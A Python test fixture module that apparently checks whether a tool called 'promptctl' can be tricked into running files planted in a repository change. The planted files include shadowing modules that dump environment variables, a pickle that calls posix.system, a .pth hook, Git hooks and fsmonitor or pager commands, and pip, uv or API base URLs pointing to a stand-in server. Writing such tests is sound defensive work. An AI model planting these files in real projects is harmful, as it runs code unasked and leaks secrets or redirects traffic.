"""Files that another program might run or obey by their name or place alone."""

from __future__ import annotations

from collections.abc import Mapping

from tests.hostile_change.change import CANARY, SERVER, Change, Content, Program

PYTHON = (
    f"import os, pathlib\npathlib.Path('{CANARY}/' + __name__.replace('/', '_')).write_text(repr(dict(os.environ)))\n"
)
SHELL = Program(f"#!/bin/sh\ntouch '{CANARY}/'$(basename \"$0\")\nexit 0\n")
MODULES = (
    "sitecustomize usercustomize json re os typing site encodings yaml jinja2 typer rich httpcore2 promptctl git venv "
    "pip ensurepip setuptools subprocess jsonschema_rs tomllib __main__ _pytest conftest"
).split()
PACKAGES = ("promptctl", "pip", "venv", "yaml", "jinja2")
PROGRAMS = ("git", "python", "python3", "promptctl", "sh", "bash", "ssh", "less", "git-promptctl", "git-upload-pack")
PICKLE = b"cposix\nsystem\n(S'touch " + CANARY.encode() + b"/pickle'\ntR."


def _harmless(name: str, files: Mapping[str, Content]) -> Change:
    return Change(name=name, files=files, outcome="pass")


PLANTED = (
    _harmless("modules of ours at the top", {f"{name}.py": PYTHON for name in MODULES}),
    _harmless(
        "packages of ours at the top",
        {f"{name}/{file}.py": PYTHON for name in PACKAGES for file in ("__init__", "__main__")},
    ),
    _harmless("programs of ours at the top", dict.fromkeys(PROGRAMS, SHELL)),
    _harmless(
        "a project of Python",
        {
            "pyproject.toml": f'[build-system]\nrequires = ["x @ http://{SERVER}/x.whl"]\n'
            'build-backend = "b"\nbackend-path = ["."]\n',
            "b.py": PYTHON,
            "setup.py": PYTHON,
            "setup.cfg": "[options]\n",
            "conftest.py": PYTHON,
            "pytest.ini": "[pytest]\n",
        },
    ),
    _harmless(
        "pip's configuration",
        dict.fromkeys(
            ("pip.conf", "pip.ini", ".pip/pip.conf", ".config/pip/pip.conf"),
            f"[global]\nindex-url = http://{SERVER}/simple\n",
        )
        | {"uv.toml": f'index-url = "http://{SERVER}"\n', "requirements.txt": f"http://{SERVER}/x.whl\n"},
    ),
    _harmless(
        "an environment",
        {
            ".env": f"PROMPTCTL_PROVIDER=evil\nOPENAI_BASE_URL=http://{SERVER}\nGIT_SSH_COMMAND=touch {CANARY}/ssh\n",
            ".envrc": f"touch {CANARY}/envrc\n",
            ".promptctl": "x = [\n",
            ".promptctl.toml": "x = [\n",
            ".promptctl/config.toml": f'[providers.openai]\nbase_url = "http://{SERVER}"\n',
            ".netrc": "machine x login y\n",
            ".config/promptctl/config.toml": f'[providers.openai]\nbase_url = "http://{SERVER}"\n',
        },
    ),
    _harmless(
        "an environment of Python",
        {
            ".venv/pyvenv.cfg": "home = /nowhere\n",
            ".venv/bin/python": SHELL,
            ".venv/bin/promptctl": SHELL,
            ".venv/lib/python3.11/site-packages/x.pth": f"import os; os.mkdir('{CANARY}/pth')\n",
            "python311._pth": ".\n",
        },
    ),
    _harmless(
        "pickles and what was compiled",
        {f"prompts/{path}": PICKLE for path in ("facts.pickle", "x.pkl", "__pycache__/judging.cpython-311.pyc")}
        | {"__pycache__/json.cpython-311.pyc": PICKLE, ".pytest_cache/x": PICKLE},
    ),
    _harmless(
        "hooks and configuration of Git",
        {
            **{
                f"{folder}/{hook}": SHELL
                for folder in ("hooks", ".githooks", ".husky")
                for hook in ("pre-commit", "post-checkout", "pre-push", "reference-transaction", "fsmonitor-watchman")
            },
            ".gitconfig": f"[core]\nfsmonitor = touch {CANARY}/fsmonitor\n",
            ".pre-commit-config.yaml": "repos: [}\n",
            "config": f"[core]\npager = touch {CANARY}/pager\n",
        },
    ),
)
